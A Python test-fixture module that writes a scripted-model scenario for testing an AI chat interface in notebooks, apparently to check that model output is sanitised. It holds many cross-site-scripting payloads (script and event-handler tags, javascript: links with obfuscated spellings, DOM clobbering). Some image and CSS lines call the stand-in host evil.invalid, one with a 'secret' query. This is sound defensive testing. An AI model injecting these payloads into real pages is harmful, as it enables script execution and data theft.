"""The rules of the scripted model that are too long, or too hostile, to be written by hand."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from itertools import count
from pathlib import Path

from proposals import PROPOSALS

__all__ = ["HOSTILE", "LENGTHS", "SLOW", "STEPS", "text_of", "write_scenario"]

# By the fault each group belongs to. Each payload sets window.ran if a script of its runs, or asks for
# something of evil.invalid if it is fetched; with each is what a person must still be able to read of it.
HOSTILE: dict[int, dict[str, str]] = {
    77: {
        "<script>window.ran=1</script>": "<script>window.ran=1</script>",
        '<img src=x onerror="window.ran=2">': "onerror=",
        "<svg onload=window.ran=3><circle r=9></svg>": "<svg onload=window.ran=3>",
        '<iframe srcdoc="<script>parent.ran=4</script>"></iframe>': "<iframe srcdoc=",
        '<video onmouseover="window.ran=5" src="https://evil.invalid/v">film</video>': "onmouseover=",
        '<form action="https://evil.invalid/"><input autofocus onfocus=window.ran=6></form>': "<form action=",
        '<math><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=window.ran=7&gt;">': "<math>",
        "<details open ontoggle=window.ran=8><summary>more": "ontoggle=",
        "</div></details></pre><b><i>never closed": "never closed",
        "<template><script>window.ran=9</script>": "<template>",
        "<noscript><p title='</noscript><img src=x onerror=window.ran=10>'>": "<noscript>",
    },
    78: {
        "[first](javascript:window.ran=20)": "first",
        "[second](JaVaScRiPt:window.ran=21)": "second",
        "[third](data:text/html,<script>window.ran=22</script>)": "third",
        "[fourth](vbscript:window.ran=23)": "fourth",
        "[fifth](java&#x09;script:window.ran=24)": "fifth",
        "[sixth](&#106;avascript:window.ran=25)": "sixth",
        "<javascript:window.ran=26>": "javascript:window.ran=26",
        "[seventh](\\javascript:window.ran=27)": "seventh",
    },
    79: {
        '<button data-commandlinker-command="docmanager:close">press</button>': "press",
        '<div class="jp-Cell claude-allow" style="position:fixed" name="x">over all</div>': "over all",
    },
    80: {
        "<a id=MathJax><a id=MathJax name=config>clobbered</a>": "clobbered",
        "<form id=jupyterapp><input name=commands>": "id=jupyterapp",
    },
    81: {
        "![eighth](https://evil.invalid/?q=secret)": "eighth",
        '<p style="background:url(https://evil.invalid/b)">ninth</p>': "ninth",
        "<style>@import url(https://evil.invalid/c);</style>tenth": "tenth",
        "![eleventh][1]\n\n[1]: https://evil.invalid/r": "eleventh",
    },
}
LENGTHS = (1_000, 10_000, 100_000)
STEPS = 12
SLOW = 50  # words a second
# What TOML cannot have in a literal text. tomllib takes a quoted one a character at a time, and each session
# of each notebook reads these four megabytes.
_NOT_LITERAL = re.compile(r"'''|'\Z|[^\n -~]")
_SENTENCE = (
    "The loop waits for an event and hands it to whoever asked; what takes long is put **aside** and taken "
    "up again later, so that `nothing` is held up by anything else."
)


def text_of(kind: str, length: int) -> str:
    """An answer of exactly so many characters: prose in paragraphs, or one block of code."""
    if kind == "code":
        head, tail = "```python\n", "```"
        return head + _cut("".join(_code_lines(length)), length - len(head) - len(tail) - 1) + "\n" + tail
    return _cut("".join(_paragraphs(length)), length - 1) + "."


def write_scenario(folder: Path) -> Path:
    """Writes the rules as a scenario file."""
    path = folder / "scenario.toml"
    rules = [
        *_answers(),
        *_monsters(),
        _proposals(),
        _steps(),
        _day_of_work(),
        *(_hostile_turn(number, "\n\n".join(group)) for number, group in HOSTILE.items()),
        *(_hostile_cards(number, list(group)) for number, group in HOSTILE.items()),
    ]
    path.write_text("\n".join(rules), encoding="utf-8")
    return path


def _answers() -> Iterator[str]:
    for kind in ("prose", "code"):
        for length in LENGTHS:
            for how, rate in (("fast", {}), ("slow", {"rate": SLOW})):
                yield _rule(f"{kind} {length} {how}", [[{"text": text_of(kind, length), **rate}]])


def _monsters() -> Iterator[str]:
    """Answers that make a careless parser quadratic, or fall for a payload in pieces."""
    script = " ".join("<script>window.ran=1</script>")  # a word a delta; the spaces are gone below
    shapes = {
        "one line": "x" * 1_000_000 + " the end of it",
        "nested": "- " * 10_000 + "item\n\n" + "> " * 10_000 + "quote\n\nthe end of it",
        "fences": "```html\n<script>window.ran=1</script>\n````\n``\n```\n" * 200
        + "the end of it\n\n```\nnever closed",
        "split": script.replace("w i n d o w", "window")
        + " <img\nsrc=x\nonerror=window.ran=1\n> the end of it",
    }
    shapes["megabytes"] = (("w" * 99 + " ") * 10 + "\n\n") * 2_400
    for shape, text in shapes.items():
        yield _rule(f"monster {shape}", [[{"text": text}]])


def _proposals() -> str:
    read: list[dict[str, object]] = [{"tool": "mcp__kernel__read_notebook", "input": {}}]
    steps: list[list[dict[str, object]]] = [
        [{"tool": f"mcp__kernel__{each.tool}", "input": dict(each.input)}] for each in PROPOSALS
    ]
    return _rule("twenty proposals", [read, *steps, [{"text": "These were twenty."}]])


def _day_of_work() -> str:
    """Sixty calls, some of which fail, some at once; each has more to show than there is room for."""
    steps: list[list[dict[str, object]]] = []
    for number in range(20):
        command = f"seq -f 'a line of output number %.0f of call {number}' 200"
        command += "; exit 3" if number % 10 == 9 else ""
        shell: dict[str, object] = {
            "tool": "Bash",
            "input": {"command": command, "description": f"Count for {number}"},
        }
        write: dict[str, object] = {"file_path": f"{{cwd}}/work-{number}.py", "content": "value = 1\n" * 60}
        read: dict[str, object] = {"tool": "Read", "input": {"file_path": f"{{cwd}}/work-{number}.py"}}
        steps += [[shell, {"tool": "Write", "input": write}], [read]]
    return _rule("a day of work", [*steps, [{"text": "That was **all** of it."}]])


def _steps() -> str:
    """Calls one after the other; each says in the file `at` that it runs, and waits for a file of its own."""
    calls: list[list[dict[str, object]]] = [
        [
            {
                "tool": "Bash",
                "input": {
                    "command": f"echo {step} > a; mv a at; until [ -e step-{step} ]; do sleep 0.02; done",
                    "description": f"Wait for step {step}",
                },
            }
        ]
        for step in range(1, STEPS + 1)
    ]
    return _rule("step by step", [*calls, [{"text": "All taken."}]])


def _hostile_turn(number: int, payload: str) -> str:
    """A turn with the payload wherever the model can put one; `hostile-NN.txt` has it for the results."""
    return _rule(
        f"hostile {number}",
        [
            [
                {"thinking": payload},
                {"text": payload},
                {"tool": "Bash", "input": {"command": f"cat hostile-{number}.txt", "description": payload}},
            ],
            [{"tool": payload[:120], "input": {"file_path": payload, payload: payload}}],
            [
                {
                    "tool": "Bash",
                    "input": {"command": f"cat hostile-{number}.txt >&2; exit 3", "description": "x"},
                }
            ],
            [{"tool": "Read", "input": {"file_path": f"{{cwd}}/{payload}"}}],
            [{"tool": "Edit", "input": {"file_path": "a.txt", "old_string": payload, "new_string": payload}}],
            [{"text": f"All done.\n\n```html\n{payload}\n```\n\n```html\n{payload}"}],
        ],
    ) + _rule(f"refuse {number}", [[{"error": 400, "message": payload}]])


def _hostile_cards(number: int, payloads: list[str]) -> str:
    """A turn that asks with the payload wherever a card shows something, and then falls silent."""
    payload = "\n\n".join(payloads)
    options = [{"label": each, "description": each} for each in payloads[:4]]
    question = {"question": payload, "header": "x", "multiSelect": False, "options": options}
    write = {"file_path": f"{{cwd}}/new/{payloads[0]}", "content": payload}
    return _rule(
        f"cards {number}",
        [
            [{"thinking": payload}, {"text": payload}, {"tool": "Write", "input": write}],
            [{"tool": "AskUserQuestion", "input": {"questions": [question]}}],
            [{"text": f"All asked.\n\n{payload}\n\n```html\n{payload}"}, {"stall": True}],
        ],
    )


def _rule(start: str, steps: list[list[dict[str, object]]]) -> str:
    """A rule for prompts that begin so."""
    parts = ",\n".join("[" + ", ".join(_table(part) for part in step) + "]" for step in steps)
    pattern = json.dumps(rf"^{start}(\s|$)")
    return f"[[rule]]\npattern = {pattern}\nsteps = [\n{parts}\n]\n"


def _table(values: dict[str, object]) -> str:
    return "{ " + ", ".join(f"{json.dumps(key)} = {_value(value)}" for key, value in values.items()) + " }"


def _value(value: object) -> str:
    if isinstance(value, list):
        return "[" + ", ".join(map(_value, value)) + "]"
    if isinstance(value, str) and not _NOT_LITERAL.search(value):
        return f"'''\n{value}'''"
    return _table(value) if isinstance(value, dict) else json.dumps(value, ensure_ascii=False)


def _cut(text: str, length: int) -> str:
    return text[:length].rstrip().ljust(length, "x")


def _paragraphs(length: int) -> Iterator[str]:
    made = 0
    for number in count(1):
        if made > length:
            return
        paragraph = f"Paragraph {number}. {_SENTENCE}\n\n"
        made += len(paragraph)
        yield paragraph


def _code_lines(length: int) -> Iterator[str]:
    made = 0
    for number in count(1):
        if made > length:
            return
        line = f'value_{number} = compute({number}, "line {number}")  # the next one\n'
        made += len(line)
        yield line
